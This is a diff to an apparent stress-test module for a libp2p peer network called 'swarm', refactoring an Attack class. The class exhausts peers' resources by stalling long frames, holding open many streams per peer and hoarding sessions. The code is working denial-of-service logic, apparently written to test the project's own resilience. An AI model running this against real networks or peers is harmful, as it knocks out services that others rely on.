@@ -26,7 +26,6 @@ from swarm.libp2p import Libp2pNetwork
 from swarm.records import Announcement
 from swarm.span import Span
 from swarm.speculation.sampling import Sampling
-from swarm.streams import Libp2pStream
 from swarm.tasks import end, kept_up, owned
 from swarm.transport import Stream, Transport
 from swarm.wire import (
@@ -49,6 +48,7 @@ HOARD, HOARDED = 9, 8190  # sessions, and the tokens of each
 FRAME = 60 << 20  # bytes that are announced, ...
 STALLED = FRAME - 1  # ... and sent
 FRAMES = 20
+OF_ONE_NODE = 64  # streams that a peer takes
 _PAUSE = 1.0  # seconds before what was refused is tried again
 
 
@@ -178,15 +178,15 @@ class Attack:
     async def frames(self) -> None:
         """Long messages that begin, and do not end, on many streams."""
         async with asyncio.TaskGroup() as group:
-            for _ in range(FRAMES):
-                group.create_task(self._again_and_again("frames", self._stall))
+            for number in range(FRAMES):
+                peer = self.peers[number % len(self.peers)]
+                group.create_task(self._again_and_again("frames", partial(self._stall, peer)))
 
     async def streams(self) -> None:
-        """A byte each on as many streams as there are, from all identities."""
+        """A byte each on as many streams as there are, from all identities to all peers."""
         async with asyncio.TaskGroup() as group:
-            for network in self.networks:
-                for _ in range(64):
-                    group.create_task(self._again_and_again("streams", partial(self._occupy, network)))
+            for network, peer, _ in itertools.product(self.networks, self.peers, range(OF_ONE_NODE)):
+                group.create_task(self._again_and_again("streams", partial(self._occupy, network, peer)))
 
     async def hoards(self) -> None:
         """Many sessions with long texts."""
@@ -201,25 +201,18 @@ class Attack:
                 await work()
             await asyncio.sleep(_PAUSE)
 
-    async def _stall(self) -> None:
-        for peer in self.peers:
-            with closing(await self.networks[0].dial(peer.contact, PUSH_PROTOCOL)) as stream:
-                stream._writer.write(FRAME.to_bytes(4, "big"))
-                for _ in range(STALLED >> 16):
-                    stream._writer.write(bytes(1 << 16))
-                    await stream._writer.drain()
-                await _read(stream)
+    async def _stall(self, peer: Announcement) -> None:
+        with closing(await self.networks[0].dial(peer.contact, PUSH_PROTOCOL)) as stream:
+            stream._writer.write(FRAME.to_bytes(4, "big"))
+            for _ in range(STALLED >> 16):
+                stream._writer.write(bytes(1 << 16))
+                await stream._writer.drain()
+            await _read(stream)
 
-    async def _occupy(self, network: Libp2pNetwork) -> None:
-        async with AsyncExitStack() as opened:
-            streams = list[Libp2pStream]()
-            for peer in self.peers:
-                stream = opened.enter_context(closing(await network.dial(peer.contact, SESSION_PROTOCOL)))
-                stream._writer.write(b"\0")
-                streams.append(stream)
-            await asyncio.wait(
-                [asyncio.ensure_future(_read(stream)) for stream in streams], return_when=asyncio.FIRST_COMPLETED
-            )
+    async def _occupy(self, network: Libp2pNetwork, peer: Announcement) -> None:
+        with closing(await network.dial(peer.contact, SESSION_PROTOCOL)) as stream:
+            stream._writer.write(b"\0")
+            await _read(stream)
 
     async def _hoard(self) -> None:
         async with Stranger.with_text(self.networks[0], self.fingerprint, self.chain, HOARDED):
